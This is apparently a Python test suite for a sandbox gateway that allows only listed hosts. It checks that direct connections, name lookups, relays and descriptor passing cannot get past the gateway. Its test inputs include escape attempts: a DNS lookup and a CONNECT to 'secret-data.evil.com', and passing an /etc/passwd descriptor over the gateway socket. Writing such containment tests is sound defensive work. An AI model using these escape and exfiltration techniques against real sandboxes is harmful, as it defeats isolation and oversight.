"""Items 47, 59, 60, 70 and 71 with a list of hosts: the gateway is the only way out, for every process."""

from harness import cases, contains, equal, expect, lacks
from harness.network import INTERNAL, METADATA, NAMES, OTHER, PUBLIC, PUBLIC6, Network
from harness import web

ALLOW = ("--allow", "allowed.com")

# A request to the gateway by hand: argv is host, port and the bytes to send.
ASK = """
import socket, sys
s = socket.create_connection(("127.0.0.1", 61080), 60)
s.sendall(sys.argv[1].encode().decode("unicode_escape").encode("latin-1"))
s.settimeout(60)
data = b""
while chunk := s.recv(65536):
    data += chunk
sys.stdout.buffer.write(data)
"""


def internet(t):
    net = Network(t)
    net.names = {"allowed.com": [PUBLIC], "evil.com": [OTHER]}
    for host in (PUBLIC, OTHER, INTERNAL, METADATA, PUBLIC6):
        net.serve(80, web.say, host)
    net.serve_long_names()
    return net


def python(t, script, *words, opts=ALLOW):
    return t.fence("python3", "-c", script, *words, opts=opts)


def control(t):
    """The same fence, the same host, through the gateway."""
    contains(t.works("python3", "-c", ASK, "GET http://allowed.com/x HTTP/1.1\\r\\nHost: allowed.com\\r\\nConnection: close\\r\\n\\r\\n",
                     opts=ALLOW), "/x of allowed.com", "the control")


DIRECT = """
import socket, sys
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, getattr(socket, sys.argv[3]))
s.settimeout(30)
s.connect((sys.argv[1], int(sys.argv[2])))
s.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
print("reached", s.recv(100))
"""


@cases((PUBLIC, 80, "SOCK_STREAM"), (OTHER, 80, "SOCK_STREAM"), (INTERNAL, 80, "SOCK_STREAM"), (METADATA, 80, "SOCK_STREAM"),
       (PUBLIC6, 80, "SOCK_STREAM"), (NAMES, 53, "SOCK_DGRAM"), (NAMES, 53, "SOCK_STREAM"), (PUBLIC, 443, "SOCK_DGRAM"))
def test_60_nothing_is_reached_past_the_gateway(t, host, port, kind):
    internet(t)
    result = python(t, DIRECT, host, str(port), kind)
    expect(result.code != 0 and "reached" not in result.out, "a direct connection fails", result)
    if port == 80:
        contains(t.run(["python3", "-c", DIRECT, host, str(port), kind]).out, "reached", "outside")
        control(t)


@cases("socket.getaddrinfo('secret-data.evil.com', 80)", "socket.gethostbyname('allowed.com')")
def test_71_no_name_is_resolved_inside(t, call):
    net = internet(t)
    result = python(t, f"import socket; print('got', {call})")
    expect(result.code != 0 and "got" not in result.out, "no resolver answers", result)
    equal(net.asked, [], "what the name server was asked")
    control(t)
    equal({name for name, _ in net.asked}, {"allowed.com"}, "what it was asked by the gateway")


def test_71_a_name_that_is_refused_is_not_even_asked_for(t):
    net = internet(t)
    result = python(t, ASK, "CONNECT secret-data.evil.com:443 HTTP/1.1\\r\\nHost: secret-data.evil.com:443\\r\\n\\r\\n")
    contains(result.out, " 403 ", "the answer")
    equal(net.asked, [], "what the name server was asked")
    control(t)


RELAY = """
import os, socket, threading
server = socket.create_server(("127.0.0.1", 8099))
def serve():
    client, _ = server.accept()
    out = socket.create_connection(("127.0.0.1", 61080))
    out.sendall(client.recv(65536))
    while data := out.recv(65536):
        client.sendall(data)
    client.close()
threading.Thread(target=serve).start()
s = socket.create_connection(("127.0.0.1", 8099))
s.sendall(b"GET http://HOST/x HTTP/1.1\\r\\nHost: HOST\\r\\nConnection: close\\r\\n\\r\\n")
while data := s.recv(65536):
    print(data.decode())
"""


def test_70_a_relay_inside_changes_no_verdict(t):
    internet(t)
    contains(python(t, RELAY.replace("HOST", "evil.com")).out, " 403 ", "of another host")
    contains(python(t, RELAY.replace("HOST", "allowed.com")).out, "/x of allowed.com", "of the one that is named")


SEND = """
import array, os, socket
s = socket.create_connection(("127.0.0.1", 61080), 60)
fd = os.open("/etc/passwd", os.O_RDONLY)
try:
    s.sendmsg([b"GET http://allowed.com/x HTTP/1.1\\r\\nHost: allowed.com\\r\\nConnection: close\\r\\n\\r\\n"],
              [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    print("sent")
except OSError as error:
    print("refused", error)
"""


def test_47_no_descriptor_passes_the_gateways_socket(t):
    """It speaks TCP, over which the kernel carries no descriptors."""
    internet(t)
    result = python(t, SEND)
    expect("refused" in result.out or "sent" in result.out, "the attempt was made", result)
    out = python(t, SEND + "print(s.family == socket.AF_INET)").out
    contains(out, "True", "the family of the socket")


def test_59_the_gateway_of_another_fence_is_out_of_reach(t):
    """Two fences at once, each with the same port number: each reaches its own."""
    internet(t)
    other = t.fence_start("sh", "-c", "echo up; read x", opts=("--allow", "evil.com"), stdin=-1)
    equal(other.stdout.readline(), b"up\n", "the other fence")
    result = python(t, ASK, "GET http://evil.com/x HTTP/1.1\\r\\nHost: evil.com\\r\\nConnection: close\\r\\n\\r\\n")
    contains(result.out, " 403 ", "what the other one may reach")
    control(t)
    t.finish(other, b"\n")


def test_the_gateway_cannot_be_seen_or_signalled_from_inside(t):
    out = t.works("sh", "-c", "cat /proc/[0-9]*/cmdline | tr '\\0' ' '", opts=ALLOW)
    lacks(out, "gateway", "the processes inside")
